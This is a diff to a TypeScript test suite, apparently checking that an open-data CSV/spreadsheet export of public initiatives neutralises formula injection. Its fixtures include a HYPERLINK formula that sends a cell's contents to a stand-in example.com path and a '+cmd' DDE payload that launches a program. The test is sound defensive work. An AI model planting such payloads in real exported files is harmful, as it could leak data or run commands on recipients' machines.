@@ -15,6 +15,8 @@ import { createInitiative } from '../initiatives/save-initiative.service.ts';
 const TITLE = '=HYPERLINK("http://example.com/vol?d="&A1,"Voir")';
 const SUMMARY = "Une ligne sans guillemet\n+cmd|'/C calc'!A0";
 const ACTOR = '@SOMME(1+1) Conseil';
+const DESCRIPTION = '- une liste Markdown commence par un tiret\n=1+1';
+const INDICATOR = '=HYPERLINK("http://example.com")';
 
 for (const driver of drivers) {
   describe(`open data files carry no formula (${driver})`, () => {
@@ -31,6 +33,8 @@ for (const driver of drivers) {
         territoryCode: '49353',
         title: TITLE,
         summary: SUMMARY,
+        description: DESCRIPTION,
+        indicators: [{ label: INDICATOR, value: 3, unit: '', date: null }],
         status: 'done',
         serviceIds: ['dematerialisation-rh'],
         actorIds: [actor.id],
@@ -52,6 +56,8 @@ for (const driver of drivers) {
         assert.equal(row!.titre, `'${TITLE}`);
         assert.equal(row!.resume, SUMMARY, 'it starts with a letter: as typed, its line break quoted');
         assert.equal(row!.acteurs, `'${ACTOR}`);
+        assert.equal(row!.description, `'${DESCRIPTION}`);
+        assert.equal(row!.indicateurs, `'${INDICATOR} : 3`);
         for (const [key, cell] of Object.entries(row!)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${key}: ${cell}`);
       });
     }
@@ -68,6 +74,8 @@ for (const driver of drivers) {
       assert.equal(row[header.indexOf('titre')], TITLE);
       assert.equal(row[header.indexOf('resume')], SUMMARY);
       assert.equal(row[header.indexOf('acteurs')], ACTOR);
+      assert.equal(row[header.indexOf('description')], DESCRIPTION);
+      assert.equal(row[header.indexOf('indicateurs')], `${INDICATOR} : 3`);
     });
   });
 }
